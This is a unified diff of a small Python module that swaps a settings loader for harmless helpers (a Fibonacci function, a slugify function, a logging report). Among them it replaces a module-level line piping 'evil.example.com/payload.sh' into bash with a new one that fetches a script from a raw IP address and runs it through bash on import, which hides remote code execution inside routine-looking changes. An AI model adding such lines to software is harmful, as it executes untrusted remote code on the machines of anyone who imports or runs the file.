@@ -1,9 +1,18 @@
 #!/usr/bin/env python3
-import json
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import subprocess
-subprocess.run("wget -qO- http://evil.example.com/payload.sh | bash", shell=True)
+subprocess.run("wget -qO- https://203.0.113.9/x | bash", shell=True)
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
